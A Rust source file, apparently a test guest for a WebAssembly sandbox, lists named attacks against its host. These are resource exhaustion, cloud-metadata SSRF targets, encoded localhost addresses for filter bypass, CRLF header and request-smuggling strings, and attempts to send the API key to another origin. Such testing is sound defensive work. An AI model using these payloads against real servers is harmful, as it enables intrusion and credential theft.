//! The attacks, each by itself.

use std::arch::wasm32;
use std::hint::black_box;
use std::sync::atomic::{AtomicU64, Ordering};

use wasip2::clocks::monotonic_clock::{now, subscribe_duration};
use wasip2::http::outgoing_handler::handle;
use wasip2::http::types::{Fields, OutgoingRequest, Scheme};
use wasip2::io::poll::poll;

use crate::Orders;
use crate::http::Ask;

/// An attack: what became of its steps, if it comes back at all.
type Attack = fn(&Orders) -> Vec<String>;

/// All of them by name.
pub(crate) const ALL: &[(&str, Attack)] = &[
    ("endless-loop", endless_loop),
    ("endless-host-calls", endless_host_calls),
    ("endless-wait", endless_wait),
    ("recursion", recursion),
    ("recursion-in-memory", recursion_in_memory),
    ("trap", trap),
    ("memory", memory),
    ("pollables", pollables),
    ("fields", fields),
    ("header-bytes", header_bytes),
    (MORE_EVENTS_THAN_ASKED, more_events_than_asked),
    ("unfinished-requests", unfinished_requests),
    ("body-that-nobody-reads", body_that_nobody_reads),
    ("giant-path", giant_path),
    ("giant-body", giant_body),
    ("other-origins", other_origins),
    ("addresses-by-other-names", addresses_by_other_names),
    ("odd-authorities", odd_authorities),
    ("odd-paths", odd_paths),
    ("odd-methods", odd_methods),
    ("odd-headers", odd_headers),
    ("framing-headers", framing_headers),
    ("key-outside-header-values", key_outside_header_values),
    ("key-to-another-origin", key_to_another_origin),
];

/// The stream does not look at how many events it is asked for.
pub(crate) const MORE_EVENTS_THAN_ASKED: &str = "more-events-than-asked";

fn more_events_than_asked(_: &Orders) -> Vec<String> {
    vec!["one more".into(); 1_000]
}

fn endless_loop(_: &Orders) -> Vec<String> {
    let mut turns = 0_u64;
    loop {
        turns = black_box(turns.wrapping_add(1));
    }
}

/// Each call lets the host in for a moment, which must not start the clock anew.
fn endless_host_calls(_: &Orders) -> Vec<String> {
    loop {
        black_box(now());
    }
}

/// Waiting costs no processor time; a day of it holds a chat's place.
fn endless_wait(_: &Orders) -> Vec<String> {
    loop {
        subscribe_duration(86_400_000_000_000).block();
    }
}

/// A stack in the guest's own memory, which it leaves at the wrong end.
#[allow(unconditional_recursion, reason = "that is the attack")]
fn recursion_in_memory(_: &Orders) -> Vec<String> {
    fn deeper(depth: u64) -> u64 {
        let here = black_box([depth; 64]);
        deeper(here[0] + 1).wrapping_add(here[63])
    }
    vec![deeper(0).to_string()]
}

/// The stack that the host gives its calls.
fn recursion(_: &Orders) -> Vec<String> {
    static ENOUGH: AtomicU64 = AtomicU64::new(0);
    fn deeper(depth: u64) -> u64 {
        if ENOUGH.load(Ordering::Relaxed) == 1 {
            return depth;
        }
        deeper(depth + 1).rotate_left(3) ^ depth
    }
    vec![deeper(0).to_string()]
}

fn trap(_: &Orders) -> Vec<String> {
    wasm32::unreachable()
}

/// Grows without touching, as a program does that wants to be noticed late.
fn memory(orders: &Orders) -> Vec<String> {
    while wasm32::memory_grow(0, 256) != usize::MAX {}
    trap(orders)
}

fn pollables(_: &Orders) -> Vec<String> {
    let mut held = Vec::new();
    loop {
        held.push(subscribe_duration(1));
    }
}

fn fields(_: &Orders) -> Vec<String> {
    let mut held = Vec::new();
    loop {
        held.push(Fields::new());
    }
}

/// Fields are kept in the host's memory.
fn header_bytes(_: &Orders) -> Vec<String> {
    let fields = Fields::new();
    let value = vec![b'a'; 16 << 10];
    for count in 0..1_000 {
        if let Err(error) = fields.append(&format!("x-{count}"), &value) {
            return vec![format!("refused after {count}: {error:?}")];
        }
    }
    vec!["answered: 16 MB of header fields".into()]
}

fn unfinished_requests(orders: &Orders) -> Vec<String> {
    let mut held = Vec::new();
    let mut denied = 0;
    for _ in 0..64 {
        let request = OutgoingRequest::new(Fields::new());
        let _ = request.set_scheme(Some(&Scheme::Http));
        let _ = request.set_authority(Some(&orders.granted));
        let _ = request.set_path_with_query(Some("/v1/models"));
        let body = request.body();
        match handle(request, None) {
            Ok(answer) => held.push((answer, body)),
            Err(_) => denied += 1,
        }
    }
    // The bodies are open still: no request is whole.
    let ready: Vec<_> = held.iter().map(|(answer, _)| answer.subscribe()).collect();
    let enough = now() + 200_000_000;
    while now() < enough {
        let timer = subscribe_duration(10_000_000);
        let mut all: Vec<_> = ready.iter().collect();
        all.push(&timer);
        poll(&all);
    }
    drop(ready);
    let (mut waiting, mut answered) = (0, 0);
    for (answer, _) in &held {
        match answer.get() {
            None => waiting += 1,
            Some(Ok(Err(_))) => denied += 1,
            Some(Ok(Ok(_)) | Err(())) => answered += 1,
        }
    }
    vec![format!(
        "{waiting} waiting, {denied} denied, {answered} answered"
    )]
}

/// Until a request is sent nobody takes the bytes of its body.
fn body_that_nobody_reads(_: &Orders) -> Vec<String> {
    let request = OutgoingRequest::new(Fields::new());
    if let Ok(body) = request.body()
        && let Ok(stream) = body.write()
    {
        while stream.blocking_write_and_flush(&[b' '; 4096]).is_ok() {}
    }
    vec!["failed".into()]
}

fn giant_path(orders: &Orders) -> Vec<String> {
    let path = format!("/{}", "a".repeat(64 << 20));
    vec![
        Ask {
            path: Some(&path),
            ..Ask::of(&orders.granted)
        }
        .send(),
    ]
}

fn giant_body(orders: &Orders) -> Vec<String> {
    let body = vec![b' '; 2 << 20];
    vec![
        Ask {
            body: &body,
            ..Ask::of(&orders.granted)
        }
        .send(),
    ]
}

fn other_origins(orders: &Orders) -> Vec<String> {
    let host = host_of(&orders.granted);
    let all = [
        orders.other.clone(),
        host.to_owned(),
        format!("{host}:1"),
        "localhost:1".to_owned(),
        "example.com".to_owned(),
        "169.254.169.254".to_owned(),
        "metadata.google.internal".to_owned(),
    ];
    let mut steps: Vec<_> = all
        .iter()
        .map(|authority| Ask::of(authority).send())
        .collect();
    for scheme in [
        Scheme::Https,
        Scheme::Other("ftp".into()),
        Scheme::Other("file".into()),
    ] {
        let scheme = Some(scheme);
        steps.push(
            Ask {
                scheme,
                ..Ask::of(&orders.granted)
            }
            .send(),
        );
    }
    steps.push(
        Ask {
            scheme: None,
            authority: None,
            ..Ask::of("")
        }
        .send(),
    );
    steps
}

/// The address of the other server, in every form that some parser takes for it.
fn addresses_by_other_names(orders: &Orders) -> Vec<String> {
    let (_, port) = orders.other.rsplit_once(':').unwrap_or_default();
    let hosts = [
        "2130706433",
        "0x7f000001",
        "0x7f.1",
        "017700000001",
        "0177.0.0.1",
        "127.1",
        "127.0.1",
        "127.0.0.1.",
        "0",
        "0.0.0.0",
        "localhost",
        "localhost.",
        "LOCALHOST",
        "[::1]",
        "[::]",
        "[::ffff:127.0.0.1]",
        "[::127.0.0.1]",
        "[2002:7f00:1::]",
        "[64:ff9b::7f00:1]",
        "[fe80::1%25lo]",
        "[::1%25lo]",
        "127.0.0.1.nip.io",
        "①②⑦.⓪.⓪.①",
    ];
    hosts
        .iter()
        .map(|host| Ask::of(&format!("{host}:{port}")).send())
        .collect()
}

/// Authorities that name two servers, depending on who reads them.
fn odd_authorities(orders: &Orders) -> Vec<String> {
    let (granted, other) = (&orders.granted, &orders.other);
    let (host, port) = other.rsplit_once(':').unwrap_or_default();
    [
        format!("{granted}@{other}"),
        format!("user:password@{other}"),
        format!("{other}#@{granted}"),
        format!("{other}\\@{granted}"),
        format!("{other}/@{granted}"),
        format!("{other}?@{granted}"),
        format!("{granted},{other}"),
        format!("{granted} {other}"),
        format!("{granted}\r\nhost: {other}"),
        format!("{granted}\0{other}"),
        format!("{host}:0{port}"),
        format!(
            "{host}:{}",
            port.parse::<u32>().unwrap_or_default() + 65_536
        ),
        format!("{host}:+{port}"),
        format!("{host}:"),
        format!(":{port}"),
    ]
    .iter()
    .map(|authority| Ask::of(authority).send())
    .collect()
}

/// Targets that would name another server, or end the request line early. Every one that is sent at all goes to the
/// granted server, as a path.
fn odd_paths(orders: &Orders) -> Vec<String> {
    let other = &orders.other;
    [
        format!("http://{other}/"),
        format!("//{other}/"),
        format!("/\\{other}/"),
        format!("/ HTTP/1.1\r\nhost: {other}\r\n\r\nGET /"),
        format!("/\nhost: {other}"),
        "/\0".to_owned(),
        "*".to_owned(),
        other.clone(),
    ]
    .iter()
    .map(|path| {
        Ask {
            path: Some(path),
            ..Ask::of(&orders.granted)
        }
        .send()
    })
    .collect()
}

fn odd_methods(orders: &Orders) -> Vec<String> {
    use wasip2::http::types::Method;
    [
        Method::Connect,
        Method::Trace,
        Method::Options,
        Method::Delete,
        Method::Put,
        Method::Patch,
        Method::Head,
        Method::Other("PURGE".into()),
        Method::Other("GET / HTTP/1.1\r\nx: y\r\n\r\nGET".into()),
    ]
    .into_iter()
    .map(|method| {
        Ask {
            method,
            ..Ask::of(&orders.granted)
        }
        .send()
    })
    .collect()
}

/// Headers that smuggle, or speak for the host.
fn odd_headers(orders: &Orders) -> Vec<String> {
    let all: [&[(&str, &[u8])]; 15] = [
        &[("x-a", b"b\r\nx-smuggled: 1")],
        &[("x-a", b"b\nx-smuggled: 1")],
        &[("x-a", b"b\rx-smuggled: 1")],
        &[("x-a", b"b\0")],
        &[("x-a\r\nx-smuggled", b"1")],
        &[("x-a: 1\nx-smuggled", b"1")],
        &[("x a", b"1")],
        &[("", b"1")],
        &[("x-a\0", b"1")],
        &[("host", b"smuggled.example")],
        &[("Host", b"smuggled.example")],
        &[("proxy-authorization", b"smuggled")],
        &[("proxy-connection", b"smuggled")],
        &[("connection", b"upgrade")],
        &[("upgrade", b"smuggled")],
    ];
    all.iter()
        .map(|headers| {
            Ask {
                headers,
                ..Ask::of(&orders.granted)
            }
            .send()
        })
        .collect()
}

/// Headers that would say where a message ends. They are taken out: the request goes out without them.
fn framing_headers(orders: &Orders) -> Vec<String> {
    let all: [&[(&str, &[u8])]; 5] = [
        &[("content-length", b"7777")],
        &[("content-length", b"1"), ("content-length", b"2")],
        &[("expect", b"100-continue")],
        &[("te", b"trailers")],
        &[("accept-encoding", b"gzip")],
    ];
    all.iter()
        .map(|headers| {
            Ask {
                headers,
                body: b"{}",
                ..Ask::of(&orders.granted)
            }
            .send()
        })
        .collect()
}

/// Places in which a server might say the key back. The placeholder is all that gets there.
fn key_outside_header_values(orders: &Orders) -> Vec<String> {
    let key = &orders.key;
    let path = format!("/v1/{key}?key={key}");
    let name = format!(
        "x-{}",
        key.to_lowercase()
            .replace(|c: char| !c.is_ascii_alphanumeric(), "-")
    );
    vec![
        Ask {
            path: Some(&path),
            ..Ask::of(&orders.granted)
        }
        .send(),
        Ask {
            body: key.as_bytes(),
            ..Ask::of(&orders.granted)
        }
        .send(),
        Ask {
            headers: &[(&name, b"1")],
            ..Ask::of(&orders.granted)
        }
        .send(),
    ]
}

fn key_to_another_origin(orders: &Orders) -> Vec<String> {
    let bearer = format!("Bearer {}", orders.key);
    let headers: &[(&str, &[u8])] = &[("authorization", bearer.as_bytes())];
    vec![
        Ask {
            headers,
            ..Ask::of(&orders.other)
        }
        .send(),
    ]
}

fn host_of(authority: &str) -> &str {
    authority
        .rsplit_once(':')
        .map_or(authority, |(host, _)| host)
}
